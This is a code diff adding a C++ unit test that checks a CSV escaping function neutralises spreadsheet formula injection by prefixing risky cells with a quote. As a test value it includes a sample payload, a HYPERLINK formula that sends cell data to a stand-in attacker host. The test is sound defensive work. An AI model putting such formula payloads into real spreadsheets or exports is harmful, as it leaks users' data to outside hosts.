@@ -184,6 +184,22 @@ TEST_CASE("html: every byte as text, invisibles shown, LF kept only for <pre>", 
     CHECK(html_escape("a\nb\tc") == "a&lt;U+000A&gt;b&lt;U+0009&gt;c");  // a cell: HTML would print spaces
 }
 
+// Red-team round 28, C F8: an instance id "=HYPERLINK(…)" went into analyze's CSV tables as it
+// is, and LibreOffice or Excel ran it as a formula. A text cell starting with = + - @, a tab or
+// a carriage return gets a leading ' (OWASP's CSV injection advice); numbers never do.
+TEST_CASE("csv: a text cell a spreadsheet would run as a formula starts with a quote", "[escaping][csv]") {
+    for (const char* formula : {"=HYPERLINK(\"http://evil.example/?\"&A1,\"ok\")", "+1+1", "-2+3", "@SUM(A1)", "\tx"})
+        CHECK(csv_text(formula) == std::string("'") + formula);
+    CHECK(csv_text("\rx") == "<U+000D>x");  // a carriage return is shown, as in every table: no formula
+    for (const char* plain : {"gac", "a=b", "x-1", "'=x", " =x", "", "fc:var=static"}) CHECK(csv_text(plain) == plain);
+    TextTable t{"instances", {"-spec", "instance", "median"}, {}, 2};
+    t.rows.push_back({Cell("@gac"), Cell("=1+1"), Cell(-2.5)});
+    t.rows.push_back({Cell("gac"), Cell("-x"), Cell(3.0)});
+    CHECK(table_csv(t) == "'-spec,instance,median\n'@gac,'=1+1,-2.5\ngac,'-x,3\n");
+    // Markdown, LaTeX and HTML escape for their own targets and show the text as it is.
+    CHECK(cell_markdown(Cell("=1+1")) == "=1+1");
+}
+
 TEST_CASE("compare text: labels stay on their line, no bidi control passes", "[escaping][compare]") {
     RunComparison r;
     const std::string evil = "x\xe2\x80\xae" "y\nz";
